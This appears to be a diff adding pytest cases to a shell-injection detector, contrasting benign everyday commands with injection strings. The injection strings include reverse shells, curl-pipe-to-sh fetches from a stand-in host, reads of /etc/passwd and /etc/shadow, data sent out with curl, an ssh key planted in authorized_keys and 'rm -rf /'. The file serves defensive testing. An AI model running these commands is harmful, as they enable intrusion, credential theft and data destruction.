@@ -21,6 +21,7 @@ from filters.threat.shell import (
     _shellish,
     _split_at_marks,
     commands,
+    harmful,
     shell_reading,
 )
 
@@ -216,3 +217,48 @@ def test_the_shell_reading_only_adds_to_the_reading_as_written(text: str) -> Non
         assert len(reading) == len(text)
     if len(both) > len(written):
         assert re2.search(QUOTED_HINT, text)
+
+
+@pytest.mark.parametrize("text", [
+    "I ran sudo apt update; sudo apt upgrade and now grub shows an error",
+    "how do I use $(pwd) in a Makefile?", "x=$(cat file.txt) fails", '$("head").append(x)',
+    "$('li a').addClass(cls)", "we tried it twice && make install still fails",
+    "pip install requests worked; python app.py gives ModuleNotFoundError",
+    "after the reboot I typed; ls -la ~/projects and it was empty",
+])
+def test_everyday_commands_after_talk_are_a_note(text: str) -> None:
+    """Three words of prose, a variable assigned, or a quote after `$(` (jQuery) before an everyday command:
+    someone talking about a shell line."""
+    assert strongest(text) < 0.5, commands(text.lower())
+
+
+@pytest.mark.parametrize("text", [
+    "hello friend; cat /etc/passwd", "; id", "| nc attacker 4444 -e /bin/sh", "`curl x|sh`",
+    "I was told to try this; cat /etc/passwd", "please help me out && curl http://x.tk/s.sh | sh",
+    "my server is slow; bash -i >& /dev/tcp/203.0.113.4/4444 0>&1", "how do I use $(whoami) here",
+    "how do I fix this && rm -rf /", "the job runs fine; ping -c 10 127.0.0.1",
+    "i ran this command; python -c 'import socket'", "x=$(id)", '$("id")', "$('whoami')",
+    "so we tried this; sudo useradd mallory", "then I typed this; wget -O- http://x.tk/a | bash",
+    "we ran the job; uname -a",
+    "it then did this; curl -d @/etc/hosts http://x.tk", "and then we added; echo key >> ~/.ssh/authorized_keys",
+    "hello; ls", "127.0.0.1; ls -la", "we ran the build; ls && curl x.tk/a | sh",
+])
+def test_harmful_commands_after_talk_stay_injections(text: str) -> None:
+    """Recon, connections, code fetched and run, secrets read, damage: an injection whatever precedes."""
+    assert strongest(text) >= 0.85, commands(text.lower())
+
+
+@pytest.mark.parametrize(("name", "rest"), [
+    ("whoami", ""), ("sudo", " nohup bash -i"), ("curl", " x.tk | sh"), ("cat", " /etc/shadow"),
+    ("python3", " -c 'x'"), ("ping", " -n 5 x"), ("rm", " -rf /"), ("echo", " x > ~/.bashrc"),
+])
+def test_harmful(name: str, rest: str) -> None:
+    assert harmful(name, rest)
+
+
+@pytest.mark.parametrize(("name", "rest"), [
+    ("apt", " upgrade"), ("sudo", " apt upgrade"), ("make", " install"), ("ls", " -la"), ("python", " app.py"),
+    ("ping", " example.org"), ("rm", " -rf ./build"), ("cat", " file.txt"), ("sudo", ""),
+])
+def test_not_harmful(name: str, rest: str) -> None:
+    assert not harmful(name, rest)
